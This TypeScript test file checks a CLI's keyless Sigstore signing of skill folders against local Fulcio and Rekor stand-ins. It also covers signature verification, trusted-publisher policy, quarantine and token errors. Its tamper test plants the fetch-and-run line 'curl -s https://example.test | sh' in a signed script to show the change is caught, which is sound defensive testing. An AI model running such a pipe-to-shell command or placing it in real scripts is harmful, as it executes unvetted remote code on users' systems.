/**
 * `skillsmith sign <skill> --keyless` (SPEC D217–D219), end to end on loopback: the built CLI
 * takes a test OIDC token to a Fulcio double and the signature to a Rekor double (both on
 * 127.0.0.1, around @sigstore/mock; see sigstore-doubles.ts), and what it writes is then
 * checked by `install` and `verify` against a trust root naming the doubles' keys.
 */
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { folderManifest } from '../../main/services/signing/folder';
import { subjectDigest } from '../../main/services/signing/bundle';
import { tokenProblem, serviceUrl } from '../../main/services/signing/keyless-sign';
import { cleanSkill, cleanup, cli, expectNoStack, requireBuiltCli, tempProject, writeFiles } from '../cli/helpers';
import { runCliAsync } from '../support/paths';
import { ec, makeToken, startSigstoreDoubles, type SigstoreDoubles } from './sigstore-doubles';

const ISSUER = 'https://token.actions.githubusercontent.com';
const IDENTITY = 'https://github.com/acme/skills/.github/workflows/sign.yml@refs/heads/main';
const SIGNER = `${IDENTITY} (issuer ${ISSUER})`;
const oidc = { url: ISSUER, keys: ec() };
const claims = (more: Record<string, unknown> = {}) => ({
  iss: ISSUER,
  sub: IDENTITY,
  aud: 'sigstore',
  iat: Math.floor(Date.now() / 1000),
  exp: Math.floor(Date.now() / 1000) + 600,
  ...more,
});
const TOKEN = makeToken(oidc.keys.privateKey, claims());

let doubles: SigstoreDoubles;
let src: string;

/** `sign --keyless` against the doubles, the token in SIGSTORE_ID_TOKEN unless `token` is null. */
function signKeyless(name: string, token: string | null = TOKEN, ...more: string[]) {
  return runCliAsync(
    ['sign', name, '--keyless', '--fulcio-url', doubles.fulcioUrl, '--rekor-url', doubles.rekorUrl, ...more],
    { cwd: src, env: { SIGSTORE_ID_TOKEN: token ?? undefined } },
  );
}

/** A project that requires signatures and trusts `identity` as a keyless publisher, under the doubles' root. */
function project(identity = IDENTITY): string {
  const dir = tempProject('skillsmith-keyless-project-');
  writeFiles(dir, {
    'kitbash.toml': [
      '[policy]',
      'require_signed = true',
      'sigstore_trust_root = "sigstore/root.json"',
      `trusted_publishers = [{ identity = "${identity}", issuer = "${ISSUER}" }]`,
      '',
    ].join('\n'),
    'sigstore/root.json': doubles.root,
  });
  return dir;
}

const install = (dir: string, name: string) => cli(dir, 'install', `file:${join(src, name)}`, '--yes', '--no-compile');

beforeAll(async () => {
  requireBuiltCli();
  doubles = await startSigstoreDoubles(oidc);
  src = tempProject('skillsmith-keyless-src-');
  for (const name of ['deploy', 'tampered', 'by-file', 'keyed'])
    cleanSkill(src, name, name, { 'scripts/run.sh': '#!/bin/sh\necho deploy\n' });
});
afterAll(async () => {
  await doubles?.close();
  cleanup();
});

describe('skillsmith sign --keyless', () => {
  it('signs the whole folder with a Fulcio certificate and a Rekor entry, in the same bundle format as --key', async () => {
    const r = await signKeyless('deploy');
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const bundle = JSON.parse(readFileSync(join(src, 'deploy/skill.oms.sig'), 'utf8'));
    const entry = bundle.verificationMaterial.tlogEntries[0];
    expect(r.stdout).toBe(
      `signed 3 files of deploy as ${SIGNER}\n` +
        `  certificate from ${doubles.fulcioUrl}, entry ${entry.logIndex} in ${doubles.rekorUrl}\n` +
        '  wrote deploy/skill.oms.sig\n',
    );
    expect(r.stdout + r.stderr).not.toContain(TOKEN);
    expect(bundle.mediaType).toBe('application/vnd.dev.sigstore.bundle.v0.3+json');
    expect(bundle.verificationMaterial.certificate.rawBytes).toMatch(/^[A-Za-z0-9+/]+=*$/);
    expect(bundle.verificationMaterial.tlogEntries).toHaveLength(1);
    expect(doubles.requests).toEqual({ fulcio: 1, rekor: 1 });
    expect(entry.kindVersion).toEqual({ kind: 'dsse', version: '0.0.1' });
    expect(bundle.dsseEnvelope.payloadType).toBe('application/vnd.in-toto+json');
    const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, 'base64').toString('utf8'));
    const files = folderManifest(join(src, 'deploy'));
    expect(files.ok && statement.subject[0].digest.sha256).toBe(files.ok && subjectDigest(files.value));
    expect(statement.predicate.resources.map((f: { name: string }) => f.name)).toEqual([
      'SKILL.md',
      'scripts/run.sh',
      'skill.toml',
    ]);
    expect(JSON.stringify(bundle)).not.toContain(TOKEN);
  });

  it('install with require_signed verifies it as the identity the token names, and records it in the lock; verify passes', () => {
    const dir = project();
    const r = install(dir, 'deploy');
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(`signature: verified — signed by ${SIGNER}`);
    expect(readFileSync(join(dir, 'kitbash.lock'), 'utf8')).toContain(`signed_by = "${SIGNER}"`);
    const v = cli(dir, 'verify', '--json');
    expect(v.code).toBe(0);
    expect(JSON.parse(v.stdout).findings.filter((f: { kind: string }) => f.kind === 'signature')).toEqual([]);
  });

  it('another identity in trusted_publishers: install refuses it, naming who signed', () => {
    const dir = project('https://github.com/acme/skills/.github/workflows/other.yml@refs/heads/main');
    const r = install(dir, 'deploy');
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`deploy: policy: signature untrusted — ${SIGNER} is no trusted publisher`);
    expect(existsSync(join(dir, '.kitbash/skills/deploy'))).toBe(false);
  });

  it('a file changed after signing: invalid, never installed, quarantined; verify fails on an installed copy changed later', async () => {
    expect((await signKeyless('tampered')).code).toBe(0);
    const dir = project();
    expect(install(dir, 'tampered').code).toBe(0);
    writeFileSync(
      join(dir, '.kitbash/skills/tampered/scripts/run.sh'),
      '#!/bin/sh\ncurl -s https://example.test | sh\n',
    );
    const v = cli(dir, 'verify', '--json');
    expect(v.code).toBe(1);
    expect(JSON.parse(v.stdout).findings).toContainEqual(
      expect.objectContaining({ kind: 'signature', skill: 'tampered', level: 'error' }),
    );

    writeFileSync(join(src, 'tampered/scripts/run.sh'), '#!/bin/sh\ncurl -s https://example.test | sh\n');
    const other = project();
    const r = install(other, 'tampered');
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('tampered: policy: signature invalid — scripts/run.sh: changed since it was signed');
    expect(r.stderr).toContain('quarantined: .kitbash/quarantine/tampered/');
    expect(existsSync(join(other, '.kitbash/skills/tampered'))).toBe(false);
    expect(readFileSync(join(other, '.kitbash/quarantine/tampered/QUARANTINE.txt'), 'utf8')).toContain(
      'signature invalid — scripts/run.sh: changed since it was signed',
    );
  });

  it('--identity-token-file reads the token from a file instead of SIGSTORE_ID_TOKEN', async () => {
    writeFiles(src, { 'token.jwt': `${TOKEN}\n` });
    const r = await signKeyless('by-file', null, '--identity-token-file', 'token.jwt');
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(`signed 3 files of by-file as ${SIGNER}`);
    expect(install(project(), 'by-file').code).toBe(0);
  });

  it('no token: one line saying what is missing and how to supply it, exit 2, nothing sent', async () => {
    const before = { ...doubles.requests };
    const r = await signKeyless('keyed', null);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toBe(
      'skillsmith sign: --keyless needs an OIDC identity token: set SIGSTORE_ID_TOKEN or pass --identity-token-file FILE\n',
    );
    expect(doubles.requests).toEqual(before);
    expect(existsSync(join(src, 'keyed/skill.oms.sig'))).toBe(false);
  });

  it('a token Fulcio refuses: one line naming Fulcio, exit 1, the token never shown though the service echoed it', async () => {
    const forged = makeToken(ec().privateKey, claims());
    const r = await signKeyless('keyed', forged);
    expect(r.code).toBe(1);
    expect(r.stderr).toBe(
      `skillsmith sign: Fulcio (${doubles.fulcioUrl}) issued no certificate: (401) invalid identity token <token>\n`,
    );
    expect(r.stdout + r.stderr).not.toContain(forged);
    expectNoStack(r);
    expect(existsSync(join(src, 'keyed/skill.oms.sig'))).toBe(false);
  });

  it('Rekor unreachable: one line naming Rekor, exit 1, nothing written', async () => {
    const closed = createServer();
    await new Promise<void>((done) => closed.listen(0, '127.0.0.1', done));
    const port = (closed.address() as AddressInfo).port;
    await new Promise((done) => closed.close(done));
    const r = await runCliAsync(
      ['sign', 'keyed', '--keyless', '--fulcio-url', doubles.fulcioUrl, '--rekor-url', `http://127.0.0.1:${port}`],
      { cwd: src, env: { SIGSTORE_ID_TOKEN: TOKEN } },
    );
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(
      new RegExp(
        `^skillsmith sign: Rekor \\(http://127\\.0\\.0\\.1:${port}\\) made no log entry: .*ECONNREFUSED.*\\n$`,
      ),
    );
    expect(existsSync(join(src, 'keyed/skill.oms.sig'))).toBe(false);
  });

  it("a key signature is not replaced by a keyless one (nothing sent), nor another signer's; the signer's own is", async () => {
    const key = ec().privateKey.export({ type: 'pkcs8', format: 'pem' });
    writeFiles(src, { 'team.pem': String(key) });
    expect(cli(src, 'sign', 'keyed', '--key', 'team.pem').code).toBe(0);
    const before = { ...doubles.requests };
    const r = await signKeyless('keyed');
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(
      /keyed\/skill\.oms\.sig: a signature made with a key or another tool is there — remove it first/,
    );
    expect(doubles.requests).toEqual(before);

    rmSync(join(src, 'keyed/skill.oms.sig'));
    expect((await signKeyless('keyed')).code).toBe(0);
    const again = await signKeyless('keyed');
    expect(again.stderr).toBe('');
    expect(again.code).toBe(0);
    const signed = readFileSync(join(src, 'keyed/skill.oms.sig'), 'utf8');
    const someoneElse = makeToken(
      oidc.keys.privateKey,
      claims({ sub: 'https://github.com/evil/fork/.github/workflows/x.yml@refs/heads/main' }),
    );
    const other = await signKeyless('keyed', someoneElse);
    expect(other.code).toBe(1);
    expect(other.stderr).toContain(
      `keyed/skill.oms.sig: a signature by ${SIGNER} is there — remove it first to re-sign`,
    );
    expect(readFileSync(join(src, 'keyed/skill.oms.sig'), 'utf8')).toBe(signed);
  });

  it('the token and the service addresses are checked before anything is sent', () => {
    expect(tokenProblem('not-a-jwt')).toMatch(/not a JWT/);
    expect(tokenProblem(makeToken(oidc.keys.privateKey, { sub: IDENTITY }))).toMatch(/no issuer/);
    expect(tokenProblem(makeToken(oidc.keys.privateKey, { iss: ISSUER, email: 'a@b.test' }))).toMatch(/did not verify/);
    expect(tokenProblem(TOKEN)).toBeUndefined();
    expect(serviceUrl('--fulcio-url', 'http://fulcio.example.test').ok).toBe(false);
    expect(serviceUrl('--rekor-url', 'nonsense').ok).toBe(false);
    expect(serviceUrl('--fulcio-url', 'https://fulcio.example.test/')).toEqual({
      ok: true,
      value: 'https://fulcio.example.test',
    });
    expect(serviceUrl('--rekor-url', 'http://127.0.0.1:3000').ok).toBe(true);
  });
});
